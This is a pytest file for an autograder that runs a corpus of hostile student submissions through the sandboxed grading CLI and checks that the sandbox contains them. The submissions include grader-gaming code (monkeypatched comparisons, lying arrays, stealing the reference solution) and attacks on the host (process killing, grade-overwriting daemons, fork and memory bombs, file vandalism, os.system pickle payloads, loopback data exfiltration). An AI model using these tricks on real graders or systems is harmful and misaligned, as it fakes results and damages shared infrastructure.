@@ -1,0 +1,753 @@
+"""The hostile corpus: one class of honest and hostile students graded through the real CLI.
+
+Every hostile submission is the reference (so its expected grade is exact) with hostile
+code appended or prepended. The class is graded once (grading costs seconds of warm-up),
+then each test asserts one student's grade per item, what the run left behind (nothing),
+and that the honest students' rows are byte-identical to a run without the hostile ones.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import os
+import select
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from grader.checks import known_checks
+from grader.config import DEFAULT_ASSIGNMENT, Assignment, load_assignment
+from grader.inprocess import InProcessRunner
+from grader.load import Cell, SourceFile
+from grader.run import run_item
+from grader.sandbox.client import PROJECT_ROOT
+from grader.sandbox.policy import probe
+from grader.wire import MAX_FRAME
+
+pytestmark = pytest.mark.timeout(300)
+
+SEED = 7
+ITEM_SECONDS = 3
+LOAD_SECONDS = 5
+TOKEN = "hx-hostile"  # the name (comm) every hostile leftover process gives itself
+NUMPY = (PROJECT_ROOT / "reference" / "attention_numpy.py").read_text(encoding="utf-8")
+TORCH = (PROJECT_ROOT / "reference" / "attention_torch.py").read_text(encoding="utf-8")
+
+# ---- the submissions -----------------------------------------------------------------------
+# Hostile code refers to the run's paths through @@NAME@@ placeholders, filled in per run.
+
+NAN_SOFTMAX = '''
+def softmax(x, axis=-1):
+    return np.full(np.shape(x), np.nan)
+'''
+
+UNSTABLE_SOFTMAX = '''
+def softmax(x, axis=-1):
+    e = np.exp(x)
+    return e / e.sum(axis=axis, keepdims=True)
+'''
+
+NAN_MHA = '''
+_ForwardOfReference = MultiHeadAttention.forward
+
+def _nan_forward(self, *args, **kwargs):
+    out, weights = _ForwardOfReference(self, *args, **kwargs)
+    return torch.full_like(out, float("nan")), weights
+
+MultiHeadAttention.forward = _nan_forward
+'''
+
+MONKEYPATCH = '''
+import numpy as _np
+import numpy.testing as _npt
+import torch as _torch
+
+def _patch():
+    _np.allclose = lambda *a, **k: True
+    _np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
+    _np.array_equal = lambda *a, **k: True
+    _np.testing.assert_allclose = lambda *a, **k: None
+    _npt.assert_array_equal = lambda *a, **k: None
+    _npt.assert_array_almost_equal = lambda *a, **k: None
+    _torch.allclose = lambda *a, **k: True
+    _torch.equal = lambda *a, **k: True
+    _torch.testing.assert_close = lambda *a, **k: None
+
+_patch()
+
+def softmax(x, axis=-1):
+    _patch()
+    return _np.full(_np.shape(x), _np.nan)
+'''
+
+MONKEYPATCH_TORCH = '''
+import torch as _torch
+_torch.allclose = lambda *a, **k: True
+_torch.equal = lambda *a, **k: True
+_torch.testing.assert_close = lambda *a, **k: None
+'''
+
+IMPORT_REFERENCE = '''
+import sys as _sys
+_sys.path[:0] = ["@@PROJECT@@", "@@PROJECT@@/reference"]
+try:
+    from reference.attention_numpy import softmax
+    print("stole softmax from reference")
+except BaseException as exc:
+    print("import reference:", type(exc).__name__)
+    try:
+        import grader.checks.numpy_items as _checks
+        softmax = _checks.ref.softmax
+        print("stole softmax from the grader")
+    except BaseException as exc:
+        print("import grader:", type(exc).__name__)
+        def softmax(x, axis=-1):
+            return np.full(np.shape(x), np.nan)
+'''
+
+WALK_DISK = '''
+import os as _os, time as _time
+
+def _is_reference(path):
+    try:
+        with open(path, encoding="utf-8", errors="replace") as handle:
+            text = handle.read(400000)
+    except OSError:
+        return False
+    return "def softmax" in text and "def relative_shift_matrix" in text and "np.full(" not in text
+
+def _hunt():
+    places = ["@@PROJECT@@/reference/attention_numpy.py", "@@CLASS@@/honest_ref/attention_numpy.py"]
+    for pid in [str(_os.getppid()), "1", *sorted(p for p in _os.listdir("/proc") if p.isdigit())]:
+        for link in ("cwd", "root"):
+            base = f"/proc/{pid}/{link}"
+            places += [f"{base}/reference/attention_numpy.py", f"{base}@@PROJECT@@/reference/attention_numpy.py"]
+    for place in places:
+        if _is_reference(place):
+            return place
+    deadline = _time.monotonic() + 2.0
+    for top in ["/work", "/home", "/root", "/srv", "/opt", "/mnt", "/tmp", "/var", "/"]:
+        for folder, subfolders, files in _os.walk(top):
+            if folder in ("/proc", "/sys", "/dev") or _time.monotonic() > deadline:
+                subfolders[:] = []
+                continue
+            for name in files:
+                if name.startswith("attention_numpy") and _is_reference(_os.path.join(folder, name)):
+                    return _os.path.join(folder, name)
+    return None
+
+_found = _hunt()
+print("found:", _found)
+if _found:
+    _stolen = {}
+    exec(open(_found).read(), _stolen)
+    softmax = _stolen["softmax"]
+else:
+    def softmax(x, axis=-1):
+        return np.full(np.shape(x), np.nan)
+'''
+
+EXITS_IN_CALLS = '''
+import os as _os, sys as _sys
+
+def softmax(x, axis=-1):
+    _sys.exit(1)
+
+def causal_mask(seq_len):
+    raise SystemExit("bye")
+
+def padding_mask(lengths, max_len):
+    _os._exit(0)
+'''
+
+KILL_PARENT = '''
+import os as _os, signal as _signal
+_softmax_of_reference = softmax
+
+def softmax(x, axis=-1):
+    for attempt in (lambda: _os.kill(_os.getppid(), _signal.SIGKILL),
+                    lambda: _os.killpg(_os.getpgrp(), _signal.SIGKILL),
+                    lambda: _os.kill(0, _signal.SIGKILL),
+                    lambda: _os.kill(-1, _signal.SIGKILL),
+                    lambda: _os.kill(-1, _signal.SIGTERM)):
+        try:
+            attempt()
+        except OSError:
+            pass
+    return _softmax_of_reference(x, axis)
+'''
+
+KILL_GRADER = '''
+import os as _os, signal as _signal
+_softmax_of_reference = softmax
+
+def softmax(x, axis=-1):
+    for pid in _os.listdir("/proc"):
+        if not pid.isdigit():
+            continue
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as handle:
+                cmdline = handle.read()
+        except OSError:
+            continue
+        if b"grader" in cmdline or b"pytest" in cmdline or b"python" in cmdline:
+            for sig in (_signal.SIGKILL, _signal.SIGSTOP):
+                try:
+                    _os.kill(int(pid), sig)
+                except OSError:
+                    pass
+    return _softmax_of_reference(x, axis)
+'''
+
+DAEMON = '''
+import ctypes as _ctypes, os as _os, signal as _signal, time as _time
+_softmax_of_reference = softmax
+
+def _daemon():
+    if _os.fork() != 0:
+        _os.wait()
+        return
+    _os.setsid()
+    if _os.fork() != 0:
+        _os._exit(0)
+    _ctypes.CDLL(None).prctl(15, b"@@TOKEN@@", 0, 0, 0)
+    for sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
+        _signal.signal(sig, _signal.SIG_IGN)
+    _time.sleep(2)
+    for target in ("@@OUT@@/grades.csv", "@@CLASS@@/honest_ref/attention_numpy.py"):
+        try:
+            with open(target, "w") as handle:
+                handle.write("pwned")
+        except OSError:
+            pass
+    _time.sleep(3600)
+    _os._exit(0)
+
+_daemon()
+
+def softmax(x, axis=-1):
+    _daemon()
+    return _softmax_of_reference(x, axis)
+'''
+
+PICKLE_BOMB = '''
+import os as _os
+
+class _Bomb:
+    def __reduce__(self):
+        return (_os.system, ("touch @@MARKER@@",))
+
+    def __array__(self, *args, **kwargs):
+        _os.system("touch @@MARKER@@")
+        return np.zeros(1)
+
+def softmax(x, axis=-1):
+    return _Bomb()
+
+def causal_mask(seq_len):
+    return {"mask": _Bomb(), "rows": [_Bomb()]}
+'''
+
+LIAR = '''
+class _Liar(np.ndarray):
+    def __eq__(self, other):
+        return True
+    def __ne__(self, other):
+        return False
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        return True
+    def __array_function__(self, func, types, args, kwargs):
+        return True
+    def __bool__(self):
+        return True
+
+def softmax(x, axis=-1):
+    return np.full(np.shape(x), np.nan).view(_Liar)
+'''
+
+INFINITE_LOOP = '''
+import signal as _signal
+
+def softmax(x, axis=-1):
+    for sig in (_signal.SIGALRM, _signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
+        _signal.signal(sig, _signal.SIG_IGN)
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass
+'''
+
+MEMORY_BOMB = '''
+def softmax(x, axis=-1):
+    hog = np.ones((1024, 1024, 1024))  # 8 GiB
+    return hog[: np.shape(x)[0]]
+'''
+
+FORK_SWARM = '''
+import os as _os
+
+def softmax(x, axis=-1):
+    while True:
+        try:
+            _os.fork()
+        except OSError:
+            pass
+'''
+
+LOOPBACK = '''
+import socket as _socket
+_softmax_of_reference = softmax
+
+def _phone_home(payload):
+    try:
+        with _socket.create_connection(("127.0.0.1", @@PORT@@), timeout=0.5) as connection:
+            connection.sendall(payload)
+    except OSError as exc:
+        print("no network:", type(exc).__name__)
+
+_phone_home(b"loaded")
+
+def softmax(x, axis=-1):
+    out = _softmax_of_reference(x, axis)
+    _phone_home(out.tobytes())
+    return out
+'''
+
+OVERWRITE_CLASSMATES = '''
+import os as _os
+
+def _vandalise():
+    for top in ("@@CLASS@@", "..", "../..", "@@OUT@@"):
+        for folder, _, files in _os.walk(top):
+            for name in files:
+                path = _os.path.join(folder, name)
+                try:
+                    with open(path, "w") as handle:
+                        handle.write("def softmax(x, axis=-1):\\n    raise RuntimeError('vandalised')\\n")
+                except OSError:
+                    pass
+    for path in ("@@CLASS@@/honest_ref/attention_numpy.py", "@@CLASS@@/honest_ref", "@@OUT@@/grades.csv"):
+        for attempt in (lambda: _os.chmod(path, 0), lambda: _os.unlink(path), lambda: _os.rename(path, path + "~")):
+            try:
+                attempt()
+            except OSError:
+                pass
+
+_vandalise()
+'''
+
+PRINT_FLOOD = '''
+import sys as _sys
+_softmax_of_reference = softmax
+_flooded = []
+
+def softmax(x, axis=-1):
+    if not _flooded:
+        _flooded.append(True)
+        _sys.stdout.write("x" * (50 << 20))
+        _sys.stdout.flush()
+    return _softmax_of_reference(x, axis)
+'''
+
+TINY_INPUTS = '''
+_softmax_of_reference = softmax
+
+def softmax(x, axis=-1):
+    if np.size(x) <= 4:
+        return _softmax_of_reference(x, axis)
+    return np.full(np.shape(x), np.nan)
+'''
+
+SOCKET_ABUSE = '''
+import os as _os, stat as _stat, struct as _struct, time as _time
+
+def _channel():
+    for fd in range(3, 256):
+        try:
+            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
+                return fd
+        except OSError:
+            pass
+
+def softmax(x, axis=-1):
+    _os.close(_channel())
+    return np.zeros(np.shape(x))
+
+def causal_mask(seq_len):
+    _os.write(_channel(), b"\\xff\\xfe not a frame " * 64)
+    _time.sleep(10)
+
+def padding_mask(lengths, max_len):
+    _os.write(_channel(), _struct.pack(">I", @@MAX_FRAME@@ + 1))
+    _time.sleep(10)
+'''
+
+REPLY_FLOOD = '''
+import os as _os, stat as _stat, struct as _struct
+
+def softmax(x, axis=-1):
+    fd = next(fd for fd in range(3, 256) if _is_socket(fd))
+    frame = b'{"value": null}'
+    _os.write(fd, (_struct.pack(">I", len(frame)) + frame) * 100000)
+    return np.zeros(np.shape(x))
+
+def _is_socket(fd):
+    try:
+        return _stat.S_ISSOCK(_os.fstat(fd).st_mode)
+    except OSError:
+        return False
+'''
+
+THREADS_LEFT = '''
+import threading as _threading, time as _time
+_softmax_of_reference = softmax
+_started = []
+
+def _saboteur():
+    _time.sleep(0.3)
+    globals()["causal_mask"] = lambda seq_len: None
+    while True:
+        print("still here")
+        _time.sleep(0.05)
+
+def softmax(x, axis=-1):
+    if not _started:
+        _started.append(_threading.Thread(target=_saboteur, daemon=True))
+        _started[0].start()
+        _started[0].join(0.35)  # the saboteur has struck before softmax's item ends
+    return _softmax_of_reference(x, axis)
+'''
+
+SIGNAL_HANDLERS = '''
+import os as _os, signal as _signal
+_softmax_of_reference = softmax
+_inside = []
+
+def _strike(signum, frame):
+    if _inside:
+        _signal.setitimer(_signal.ITIMER_REAL, 0.05)  # not yet: softmax is still being graded
+        return
+    _os._exit(9)
+
+def softmax(x, axis=-1):
+    _inside.append(True)
+    try:
+        _signal.signal(_signal.SIGALRM, _strike)
+        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
+        _signal.setitimer(_signal.ITIMER_REAL, 0.05)
+        return _softmax_of_reference(x, axis)
+    finally:
+        _inside.pop()
+'''
+
+
+@dataclass
+class Student:
+    numpy: str | None  # the attention_numpy.py it submits (None: not submitted)
+    torch: str | None = None
+    # Item -> points when not full marks; "inprocess" items are graded in this process on
+    # ``control`` (the same mistake without the hostility) to get the exact expectation.
+    zero: tuple[str, ...] = ()
+    control: dict[str, str] = field(default_factory=dict)  # item -> control code (appended)
+
+
+NUMPY_ITEMS = ("softmax", "causal_mask", "padding_mask", "scaled_dot_product_attention",
+               "bahdanau_attention", "split_heads", "combine_heads", "positional_encoding",
+               "relative_shift_matrix")
+TORCH_ITEMS = ("BahdanauAttention", "MultiHeadAttention", "PositionalEncoding")
+
+
+def appended(code: str, base: str = NUMPY) -> str:
+    return f"{base}\n\n# ---- hostile ----\n{code}"
+
+
+HONEST = {
+    "honest_ref": Student(NUMPY, TORCH),
+    "honest_partial": Student(appended(UNSTABLE_SOFTMAX),
+                              appended((DEFAULT_ASSIGNMENT.parent / "catalogue/mutants/mha_no_scale.py").read_text(),
+                                       TORCH)),
+}
+
+HOSTILE = {
+    "control_nan": Student(appended(NAN_SOFTMAX), control={"softmax": NAN_SOFTMAX}),
+    "monkeypatch": Student(appended(MONKEYPATCH), appended(MONKEYPATCH_TORCH + NAN_MHA, TORCH),
+                           control={"softmax": NAN_SOFTMAX, "MultiHeadAttention": NAN_MHA}),
+    "import_reference": Student(appended(IMPORT_REFERENCE), control={"softmax": NAN_SOFTMAX}),
+    "walk_disk": Student(appended(WALK_DISK), control={"softmax": NAN_SOFTMAX}),
+    "exit_at_import": Student(appended("import sys\nsys.exit(3)\n")),
+    "os_exit_at_import": Student(appended("import os\nos._exit(0)\n"), zero=NUMPY_ITEMS),
+    "system_exit_first": Student("raise SystemExit('before anything')\n" + NUMPY, zero=NUMPY_ITEMS),
+    "exits_in_calls": Student(appended(EXITS_IN_CALLS), zero=("softmax", "causal_mask", "padding_mask")),
+    "kill_parent": Student(appended(KILL_PARENT)),
+    "kill_grader": Student(appended(KILL_GRADER)),
+    "daemon": Student(appended(DAEMON)),
+    "pickle_bomb": Student(appended(PICKLE_BOMB), zero=("softmax", "causal_mask")),
+    "liar_array": Student(appended(LIAR), zero=("softmax",)),
+    "infinite_loop": Student(appended(INFINITE_LOOP), zero=("softmax",)),
+    "sleep_at_import": Student(appended("import time\ntime.sleep(3600)\n"), zero=NUMPY_ITEMS),
+    "memory_bomb": Student(appended(MEMORY_BOMB), zero=("softmax",)),
+    "fork_swarm": Student(appended(FORK_SWARM), zero=("softmax",)),
+    "loopback": Student(appended(LOOPBACK)),
+    "overwrite_classmates": Student(appended(OVERWRITE_CLASSMATES)),
+    "print_flood": Student(appended(PRINT_FLOOD)),
+    "tiny_inputs": Student(appended(TINY_INPUTS), control={"softmax": TINY_INPUTS}),
+    "socket_abuse": Student(appended(SOCKET_ABUSE), zero=("softmax", "causal_mask", "padding_mask")),
+    "reply_flood": Student(appended(REPLY_FLOOD), zero=("softmax",)),
+    "threads_left": Student(appended(THREADS_LEFT)),
+    "signal_handlers": Student(appended(SIGNAL_HANDLERS)),
+}
+
+
+# ---- the runs -----------------------------------------------------------------------------
+
+@dataclass
+class Run:
+    out: Path
+    proc: subprocess.CompletedProcess[str]
+    seconds: float
+    lines: dict[str, str]  # student -> its grades.csv line, as bytes on disk
+    grades: dict[str, dict[str, float]]  # student -> item -> points
+    results: dict[str, Any]  # student -> its results.json entry
+    run: dict[str, Any]  # results.json's "run"
+    leftovers: list[str]  # hostile processes alive right after the run
+
+
+@dataclass
+class Corpus:
+    assignment: Assignment
+    class_dir: Path
+    hostile: Run
+    honest: Run
+    listener_pending: bool
+    class_digest_before: str
+    class_digest_after: str
+    marker: Path
+
+
+def fill(code: str, paths: dict[str, str]) -> str:
+    for key, value in paths.items():
+        code = code.replace(f"@@{key}@@", value)
+    return code
+
+
+def write_class(class_dir: Path, students: dict[str, Student], paths: dict[str, str]) -> None:
+    for name, student in students.items():
+        folder = class_dir / name
+        folder.mkdir(parents=True)
+        if student.numpy is not None:
+            (folder / "attention_numpy.py").write_text(fill(student.numpy, paths), encoding="utf-8")
+        if student.torch is not None:
+            (folder / "attention_torch.py").write_text(fill(student.torch, paths), encoding="utf-8")
+
+
+def digest(folder: Path) -> str:
+    h = hashlib.sha256()
+    for path in sorted(folder.rglob("*")):
+        h.update(str(path.relative_to(folder)).encode())
+        h.update(oct(path.stat().st_mode).encode())
+        if path.is_file():
+            h.update(path.read_bytes())
+    return h.hexdigest()
+
+
+def hostile_leftovers() -> list[str]:
+    """Processes that named themselves after the corpus, or run as a sandbox uid with such a name."""
+    found = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            comm = Path(f"/proc/{entry}/comm").read_text().strip()
+            status = Path(f"/proc/{entry}/status").read_text()
+        except OSError:
+            continue
+        state = [line for line in status.splitlines() if line.startswith("State:")][0].split()[1]
+        if comm.startswith(TOKEN[:15]) and state not in "ZX":
+            found.append(f"{entry} {comm} {state}")
+    return found
+
+
+def grade(class_dir: Path, out: Path, assignment: Path) -> Run:
+    started = time.monotonic()
+    proc = subprocess.run([sys.executable, "-m", "grader", "grade", str(class_dir), "--out", str(out),
+                           "--seed", str(SEED), "--jobs", "2", "--no-progress", "--assignment", str(assignment)],
+                          capture_output=True, text=True, timeout=240)
+    seconds = time.monotonic() - started
+    leftovers = hostile_leftovers()
+    assert proc.returncode == 0, proc.stderr[-5000:]
+    raw = (out / "grades.csv").read_bytes().decode("utf-8")
+    lines = {line.split(",", 1)[0]: line for line in raw.splitlines()[1:]}
+    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
+        grades = {row["student"]: {k: float(v) for k, v in row.items() if k != "student"}
+                  for row in csv.DictReader(handle)}
+    data = json.loads((out / "results.json").read_text(encoding="utf-8"))
+    results = {s["student"]: s for s in data["students"]}
+    return Run(out, proc, seconds, lines, grades, results, data["run"], leftovers)
+
+
+@pytest.fixture(scope="module")
+def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corpus]:
+    isolation = probe()
+    if not (isolation.namespaces and isolation.drop_uid):
+        pytest.skip("the corpus expects full isolation (root and namespaces): " + "; ".join(isolation.notes))
+    tmp = tmp_path_factory.mktemp("hostile")
+    config = yaml.safe_load(DEFAULT_ASSIGNMENT.read_text(encoding="utf-8"))
+    config["limits"]["item_seconds"] = ITEM_SECONDS
+    config["limits"]["load_seconds"] = LOAD_SECONDS
+    assignment_path = tmp / "assignment.yaml"
+    assignment_path.write_text(yaml.safe_dump(config), encoding="utf-8")
+    assignment = load_assignment(assignment_path, known_checks())
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(16)
+    hostile_class, honest_class = tmp / "class", tmp / "honest_class"
+    out, honest_out = tmp / "out", tmp / "honest_out"
+    marker = tmp / "unpickled"
+    paths = {"PROJECT": str(PROJECT_ROOT), "CLASS": str(hostile_class), "OUT": str(out), "TOKEN": TOKEN,
+             "PORT": str(listener.getsockname()[1]), "MARKER": str(marker), "MAX_FRAME": str(MAX_FRAME)}
+    write_class(hostile_class, {**HONEST, **HOSTILE}, paths)
+    write_class(honest_class, HONEST, paths)
+    before = digest(hostile_class)
+    try:
+        hostile = grade(hostile_class, out, assignment_path)
+        pending = bool(select.select([listener], [], [], 0)[0])
+    finally:
+        listener.close()
+    honest = grade(honest_class, honest_out, assignment_path)
+    yield Corpus(assignment, hostile_class, hostile, honest, pending, before, digest(hostile_class), marker)
+
+
+def inprocess(assignment: Assignment, notebook: str, code: str) -> dict[str, float]:
+    """Each item's points for the reference with ``code`` appended, graded in this process."""
+    base = NUMPY if notebook == "attention_numpy" else TORCH
+    runner = InProcessRunner.from_source(SourceFile(notebook, f"{notebook}.py", (Cell(1, appended(code, base)),)))
+    return {item.name: run_item(item, runner, SEED)[0].earned for item in assignment.items_of(notebook)}
+
+
+def expected(corpus: Corpus, student: Student) -> dict[str, float]:
+    points = {}
+    for item in corpus.assignment.items:
+        source = student.numpy if item.notebook == "attention_numpy" else student.torch
+        points[item.name] = 0.0 if source is None or item.name in student.zero else item.points
+    for item_name, code in student.control.items():
+        notebook = corpus.assignment.item(item_name).notebook
+        points[item_name] = inprocess(corpus.assignment, notebook, code)[item_name]
+    return points
+
+
+# ---- the tests ------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name", sorted(HOSTILE))
+def test_each_hostile_student_gets_exactly_its_grade(corpus, name):
+    student = HOSTILE[name]
+    want = expected(corpus, student)
+    got = corpus.hostile.grades[name]
+    wrong = {item: (got[item], points) for item, points in want.items() if abs(got[item] - points) > 1e-9}
+    result = corpus.hostile.results[name]
+    why = {i["name"]: [c["message"] for c in i["checks"] if not c["passed"]][:2] for i in result["items"]
+           if i["name"] in wrong}
+    assert not wrong, f"{name}: item -> (got, expected): {wrong}; why: {why}; notebooks: {result['notebooks']}"
+    assert abs(got["score"] - sum(want.values())) < 1e-9
+
+
+def test_a_hostile_mistake_costs_what_the_same_mistake_costs_without_hostility(corpus):
+    maxima = {item.name: item.points for item in corpus.assignment.items}
+    for name in ("control_nan", "monkeypatch", "import_reference", "walk_disk", "tiny_inputs"):
+        assert corpus.hostile.grades[name]["softmax"] < maxima["softmax"], name
+    assert corpus.hostile.grades["monkeypatch"]["MultiHeadAttention"] < maxima["MultiHeadAttention"]
+
+
+def test_honest_rows_are_byte_identical_to_a_run_without_the_hostile_students(corpus):
+    assert set(corpus.honest.lines) == set(HONEST)
+    for name in HONEST:
+        assert corpus.hostile.lines[name] == corpus.honest.lines[name], name
+    assert corpus.honest.grades["honest_ref"]["score"] == corpus.honest.grades["honest_ref"]["max_score"]
+    partial = corpus.honest.grades["honest_partial"]
+    assert 0 < partial["score"] < partial["max_score"]
+
+
+def test_every_student_has_a_row_and_the_grader_never_failed(corpus):
+    assert set(corpus.hostile.grades) == set(HONEST) | set(HOSTILE)
+    for name, result in corpus.hostile.results.items():
+        for item in result["items"]:
+            assert "the grader itself failed" not in (item["error"] or ""), name
+
+
+def test_no_hostile_process_outlives_the_run(corpus):
+    # Measured right after each CLI run returned: the daemons sleep 2 s before striking.
+    assert corpus.hostile.leftovers == []
+    assert corpus.honest.leftovers == []
+
+
+def test_the_output_and_class_folders_are_untouched(corpus):
+    assert corpus.class_digest_after == corpus.class_digest_before
+    raw = (corpus.hostile.out / "grades.csv").read_text(encoding="utf-8")
+    assert "pwned" not in raw and raw.startswith("student,score,max_score,")
+    assert not (corpus.class_dir / "honest_ref" / "attention_numpy.py~").exists()
+
+
+def test_nothing_reached_the_loopback_listener(corpus):
+    assert corpus.listener_pending is False
+    output = corpus.hostile.results["loopback"]["notebooks"][0]["output"]
+    assert "no network" in output
+
+
+def test_returned_objects_are_never_unpickled_or_converted(corpus):
+    assert not corpus.marker.exists()
+    softmax = next(i for i in corpus.hostile.results["pickle_bomb"]["items"] if i["name"] == "softmax")
+    assert "_Bomb" in softmax["checks"][0]["message"]
+
+
+def test_reference_and_grader_cannot_be_imported_or_found(corpus):
+    output = corpus.hostile.results["import_reference"]["notebooks"][0]["output"]
+    assert "import reference: ModuleNotFoundError" in output and "import grader: ModuleNotFoundError" in output
+    assert "found: None" in corpus.hostile.results["walk_disk"]["notebooks"][0]["output"]
+
+
+def test_exits_and_crashes_are_reported(corpus):
+    results = corpus.hostile.results
+    assert any("SystemExit" in error for _, error in results["exit_at_import"]["notebooks"][0]["cell_errors"])
+    assert "stopped" in results["os_exit_at_import"]["notebooks"][0]["failure"]
+    assert "took longer than" in results["sleep_at_import"]["notebooks"][0]["failure"]
+    items = {i["name"]: i for i in results["exits_in_calls"]["items"]}
+    assert "SystemExit" in items["softmax"]["checks"][0]["message"]
+    assert "exited with status 0" in items["padding_mask"]["checks"][0]["message"]
+
+
+def test_limits_cost_only_the_item(corpus):
+    results = corpus.hostile.results
+
+    def message(student: str, item: str) -> str:
+        return next(i for i in results[student]["items"] if i["name"] == item)["checks"][0]["message"]
+
+    assert "MemoryError" in message("memory_bomb", "softmax")
+    assert "time limit" in message("infinite_loop", "softmax")
+    assert "time limit" in message("fork_swarm", "softmax")
+
+
+def test_printed_floods_are_captured_and_capped(corpus):
+    softmax = next(i for i in corpus.hostile.results["print_flood"]["items"] if i["name"] == "softmax")
+    cap = corpus.assignment.limits.output_kb * 1024
+    assert len(softmax["output"].encode()) <= cap + 200
+    assert softmax["output_dropped"] >= (50 << 20) - cap
+    feedback = (corpus.hostile.out / "feedback" / "print_flood.md").read_text(encoding="utf-8")
+    assert len(feedback) < cap + 20_000 and "more bytes of output were not kept" in feedback
+
+
+def test_the_run_stays_quick(corpus):
+    assert corpus.hostile.seconds < 120, corpus.hostile.seconds
+    assert corpus.hostile.run["sandbox"]["namespaces"] is True
+    assert corpus.hostile.run["sandbox"]["notes"] == []
